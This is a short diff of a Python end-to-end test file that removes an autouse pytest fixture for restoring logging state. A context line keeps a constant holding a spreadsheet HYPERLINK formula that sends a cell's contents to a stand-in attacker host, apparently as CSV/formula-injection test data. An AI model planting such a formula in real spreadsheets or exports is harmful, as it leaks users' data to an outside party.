@@ -21,15 +21,6 @@ from tests.e2e.helpers import add_tags, request_to_card
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
 
-@pytest.fixture(autouse=True)
-def tool_logging_removed() -> Iterator[None]:
-    root = logging.getLogger()
-    level = root.level
-    yield
-    for handler in [h for h in root.handlers if getattr(h, "_deletetags", False)]:
-        root.removeHandler(handler)
-    root.setLevel(level)
-
 
 class SetClock:
     def __init__(self) -> None:
